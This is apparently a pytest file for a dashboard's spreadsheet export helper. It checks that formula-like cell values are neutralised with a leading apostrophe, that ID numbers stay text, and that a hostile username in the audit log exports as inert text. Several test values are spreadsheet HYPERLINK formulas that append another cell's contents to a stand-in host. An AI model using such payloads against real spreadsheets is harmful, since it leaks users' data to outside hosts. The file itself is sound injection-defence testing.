"""The one spreadsheet writer every export uses: Chinese headers, text kept as text, formulas neutralised."""

from __future__ import annotations

import io
from datetime import date, datetime

import pandas as pd
import pytest
from openpyxl import load_workbook

from data_access import exports


@pytest.mark.parametrize("value", ['=HYPERLINK("http://x.example/"&B3,"详情")', "+1+1", "-2+3", "@SUM(A1)",
                                   "\t=1", "\r=1"])
def test_formula_starts_are_neutralised(value):
    assert exports.neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["王*明", "231221197005010011", "前进村", "", 12, -5, 3.5, None])
def test_other_values_pass(value):
    assert exports.neutralise(value) == value


def test_xlsx_round_trip():
    df = pd.DataFrame({"name": ['=HYPERLINK("http://x.example","点我")', "王*明"],
                       "id": ["231221197005010011", "23122119700501001X"], "n": [3, None],
                       "on": [date(2026, 11, 28), None], "at": [datetime(2026, 11, 28, 9, 30), None],
                       "secret": ["不导出", "不导出"]})
    data = exports.xlsx(df, {"name": "户主", "id": "身份证号", "n": "人数", "on": "日期", "at": "时间"},
                        note="监测对象名单 · 已脱敏")
    ws = load_workbook(io.BytesIO(data)).active
    rows = list(ws.iter_rows(values_only=True))
    assert rows[0][0] == "监测对象名单 · 已脱敏"
    assert rows[2] == ("户主", "身份证号", "人数", "日期", "时间")
    assert rows[3][0] == "'" + df.loc[0, "name"] and ws.cell(row=4, column=1).data_type == "s"
    assert rows[3][1] == "231221197005010011" and rows[4][1] == "23122119700501001X"  # digits stay text
    assert rows[3][2] == 3 and rows[4][2] is None
    assert rows[3][3].date() == date(2026, 11, 28) and rows[3][4] == datetime(2026, 11, 28, 9, 30)
    assert all("不导出" not in str(r) for r in rows)
    assert not any(isinstance(c.value, str) and c.data_type == "f" for row in ws.iter_rows() for c in row)


def test_a_hostile_username_in_the_audit_log_exports_as_text(tmp_path):
    """A signed-out visitor types a formula as the username; the admin's export of the log keeps it inert."""
    from data_access import accounts, audit, db
    from data_access.models import AppBase
    from tests.conftest import using

    hostile = '=HYPERLINK("http://x.example/?"&B3,"详情")'
    with using(DASHBOARD_DATA_DIR=str(tmp_path)):
        AppBase.metadata.create_all(db.engine("app"))
        with pytest.raises(accounts.AccountError):
            accounts.authenticate(hostile, "Wrong4horse", address="10.0.0.9")
        df = audit.entries()
    data = exports.xlsx(df, {"at": "时间", "username": "用户", "action": "操作", "detail": "内容", "address": "来源地址"})
    ws = load_workbook(io.BytesIO(data)).active
    cells = [c for row in ws.iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert cells and all(c.value.startswith("'=") and c.data_type == "s" for c in cells)
